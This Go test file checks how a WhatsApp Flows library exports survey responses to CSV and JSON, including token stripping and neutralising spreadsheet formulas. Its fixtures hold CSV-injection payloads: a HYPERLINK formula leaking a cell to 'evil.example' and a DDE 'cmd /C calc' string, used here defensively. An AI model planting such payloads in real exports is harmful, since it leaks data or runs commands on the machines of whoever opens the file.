package responses_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"iter"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/waflow/waflow"
	"github.com/waflow/waflow/flowjson"
	"github.com/waflow/waflow/responses"
)

var at = time.Date(2026, 12, 3, 10, 0, 0, 123456000, time.UTC)

func seq(cs ...waflow.Completion) iter.Seq2[waflow.Completion, error] {
	return func(yield func(waflow.Completion, error) bool) {
		for _, c := range cs {
			if !yield(c, nil) {
				return
			}
		}
	}
}

const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`

func sample() []waflow.Completion {
	return []waflow.Completion{{
		MessageID: "wamid.1", Flow: "survey", TokenID: "tok1", WAID: "15551234567", UserID: "US.1", ParentUserID: "US.ENT.1", Username: "@ana", ContextID: "wamid.sent",
		Status: waflow.CompletionHandled, ReceivedAt: at, CompletedAt: at.Add(-time.Second), HandledAt: at.Add(time.Second),
		Response: []byte(`{"flow_token":"wf1.abc.~secretpart","rating":"4","comments":"` + strings.ReplaceAll(hyperlink, `"`, `\"`) + `",` +
			`"amount":-12.5,"phone":"+1 555 0100","tags":["a", "b"],"ok":true,"none":null,"note":"line1\nline2, \"quoted\"","later":{"x": 1}}`),
	}, {
		MessageID: "wamid.2", Flow: "survey", WAID: "15550000002", Status: waflow.CompletionRejected, Result: "replayed completion",
		ReceivedAt: at.Add(time.Minute), CompletedAt: at.Add(time.Minute),
		Response: []byte(`{"rating":"@SUM(1+1)","comments":"-2+3","zoë":"Zoë"}`),
	}}
}

// A CSV export reads back with encoding/csv: the fixed columns, the flow's
// fields in order, the other keys in extra; formulas neutralised, no token.
func TestCSVReadsBack(t *testing.T) {
	var out bytes.Buffer
	n, err := responses.Export(&out, responses.CSV, []string{"rating", "comments", "amount", "phone", "tags", "ok", "none", "note"}, seq(sample()...))
	if err != nil || n != 2 {
		t.Fatalf("Export = %d, %v", n, err)
	}
	if strings.Contains(out.String(), "flow_token") || strings.Contains(out.String(), "secretpart") {
		t.Fatalf("the export holds the flow token:\n%s", out.String())
	}
	r := csv.NewReader(&out)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v", err)
	}
	want := [][]string{
		{"received_at", "message_id", "wa_id", "user_id", "parent_user_id", "username", "status", "rating", "comments", "amount", "phone", "tags", "ok", "none", "note", "extra"},
		{"2026-12-03T10:00:00.123456Z", "wamid.1", "15551234567", "US.1", "US.ENT.1", "'@ana", "handled", "4", "'" + hyperlink, "-12.5", "'+1 555 0100", `["a","b"]`, "true", "",
			"line1\nline2, \"quoted\"", `{"later":{"x":1}}`},
		{"2026-12-03T10:01:00.123456Z", "wamid.2", "15550000002", "", "", "", "rejected", "'@SUM(1+1)", "'-2+3", "", "", "", "", "", "", `{"zoë":"Zoë"}`},
	}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Fatalf("read back:\n%q\nwant\n%q", rows, want)
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		hyperlink:         "'" + hyperlink,
		"+cmd|' /C calc'": "'+cmd|' /C calc'",
		"-1+1":            "'-1+1",
		"@SUM(A1)":        "'@SUM(A1)",
		"\t=1":            "'\t=1",
		"\r=1":            "'\r=1",
		"-12.5":           "-12.5",
		"+3":              "+3",
		"1e-3":            "1e-3",
		"plain = text":    "plain = text",
		"":                "",
		" =1+1":           "' =1+1",
		"\n@SUM(A1)":      "'\n@SUM(A1)",
		"  -1+1":          "'  -1+1",
		" -12.5":          " -12.5",
		"   ":             "   ",
	} {
		if got := responses.Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// JSON Lines and JSON carry every field of the completion, and the response
// without its flow token.
func TestJSONFormats(t *testing.T) {
	type record struct {
		MessageID   string          `json:"message_id"`
		Flow        string          `json:"flow"`
		TokenID     string          `json:"token_id"`
		WAID        string          `json:"wa_id"`
		UserID      string          `json:"user_id"`
		ParentID    string          `json:"parent_user_id"`
		Username    string          `json:"username"`
		ContextID   string          `json:"context_id"`
		Status      string          `json:"status"`
		Result      string          `json:"result"`
		ReceivedAt  time.Time       `json:"received_at"`
		CompletedAt time.Time       `json:"completed_at"`
		HandledAt   *time.Time      `json:"handled_at"`
		Response    json.RawMessage `json:"response"`
	}
	check := func(t *testing.T, recs []record) {
		t.Helper()
		if len(recs) != 2 {
			t.Fatalf("%d records", len(recs))
		}
		r := recs[0]
		if r.MessageID != "wamid.1" || r.Flow != "survey" || r.TokenID != "tok1" || r.UserID != "US.1" || r.ParentID != "US.ENT.1" || r.Username != "@ana" || r.ContextID != "wamid.sent" ||
			r.Status != "handled" || !r.ReceivedAt.Equal(at) || r.HandledAt == nil || !r.HandledAt.Equal(at.Add(time.Second)) {
			t.Errorf("first record: %+v", r)
		}
		var resp map[string]any
		if err := json.Unmarshal(r.Response, &resp); err != nil || resp["comments"] != hyperlink || resp["flow_token"] != nil || len(resp) != 9 {
			t.Errorf("first response: %s (%v)", r.Response, err)
		}
		if recs[1].HandledAt != nil || recs[1].Result != "replayed completion" || !strings.HasPrefix(string(recs[1].Response), `{"rating":"@SUM(1+1)","comments"`) {
			t.Errorf("second record: %+v, response %s", recs[1], recs[1].Response)
		}
	}
	t.Run("jsonl", func(t *testing.T) {
		var out bytes.Buffer
		if _, err := responses.Export(&out, responses.JSONLines, nil, seq(sample()...)); err != nil {
			t.Fatal(err)
		}
		var recs []record
		for line := range strings.Lines(out.String()) {
			var r record
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatalf("line %q: %v", line, err)
			}
			recs = append(recs, r)
		}
		check(t, recs)
	})
	t.Run("json", func(t *testing.T) {
		var out bytes.Buffer
		if _, err := responses.Export(&out, responses.JSON, nil, seq(sample()...)); err != nil {
			t.Fatal(err)
		}
		var recs []record
		if err := json.Unmarshal(out.Bytes(), &recs); err != nil {
			t.Fatalf("%v:\n%s", err, out.String())
		}
		check(t, recs)
		out.Reset()
		if _, err := responses.Export(&out, responses.JSON, nil, seq()); err != nil || out.String() != "[]\n" {
			t.Fatalf("no completions: %q, %v", out.String(), err)
		}
	})
}

// An error of the sequence ends the export with it.
func TestExportStopsAtError(t *testing.T) {
	boom := errors.New("database gone")
	bad := func(yield func(waflow.Completion, error) bool) {
		if yield(sample()[0], nil) {
			yield(waflow.Completion{}, boom)
		}
	}
	if n, err := responses.Export(&bytes.Buffer{}, responses.CSV, nil, bad); n != 1 || !errors.Is(err, boom) {
		t.Fatalf("Export = %d, %v; want 1 and the error", n, err)
	}
	if _, err := responses.NewWriter(&bytes.Buffer{}, "xml", nil); err == nil {
		t.Fatal("NewWriter accepted format xml")
	}
	if _, err := responses.NewWriter(&bytes.Buffer{}, responses.CSV, []string{"a", "a"}); err == nil {
		t.Fatal("NewWriter accepted a field twice")
	}
}

const flowJSON = `{
  "version": "7.0",
  "screens": [
    {"id": "ONE", "title": "One", "data": {},
     "layout": {"type": "SingleColumnLayout", "children": [
       {"type": "TextInput", "name": "name", "label": "Name"},
       {"type": "Footer", "label": "Next", "on-click-action": {"name": "navigate", "next": {"type": "screen", "name": "TWO"},
        "payload": {"name": "${form.name}"}}}]}},
    {"id": "TWO", "title": "Two", "terminal": true, "data": {"name": {"type": "string", "__example__": "x"}},
     "layout": {"type": "SingleColumnLayout", "children": [
       {"type": "TextInput", "name": "email", "label": "Email"},
       {"type": "Footer", "label": "Send", "on-click-action": {"name": "complete",
        "payload": {"name": "${data.name}", "email": "${form.email}", "flow_token": "x", "source": "flow"}}}]}}
  ]
}`

// Fields are the complete payload's keys in Flow JSON order, without
// flow_token.
func TestFields(t *testing.T) {
	f, err := flowjson.Parse([]byte(flowJSON))
	if err != nil {
		t.Fatal(err)
	}
	if got, want := responses.Fields(f), []string{"name", "email", "source"}; !slices.Equal(got, want) {
		t.Fatalf("Fields = %q, want %q", got, want)
	}
	got, err := responses.DiscoverFields(seq(sample()...))
	if want := []string{"rating", "comments", "amount", "phone", "tags", "ok", "none", "note", "later", "zoë"}; err != nil || !slices.Equal(got, want) {
		t.Fatalf("DiscoverFields = %q, %v; want %q", got, err, want)
	}
}

func TestParse(t *testing.T) {
	for _, s := range []string{"csv", "JSONL", "json"} {
		if _, err := responses.ParseFormat(s); err != nil {
			t.Errorf("ParseFormat(%q): %v", s, err)
		}
	}
	if tm, err := responses.ParseTime("2026-12-03"); err != nil || !tm.Equal(time.Date(2026, 12, 3, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("ParseTime(date) = %v, %v", tm, err)
	}
	if tm, err := responses.ParseTime("2026-12-03T10:00:00+01:00"); err != nil || !tm.Equal(time.Date(2026, 12, 3, 9, 0, 0, 0, time.UTC)) {
		t.Errorf("ParseTime(RFC 3339) = %v, %v", tm, err)
	}
	if _, err := responses.ParseTime("yesterday"); err == nil {
		t.Error("ParseTime accepted yesterday")
	}
}
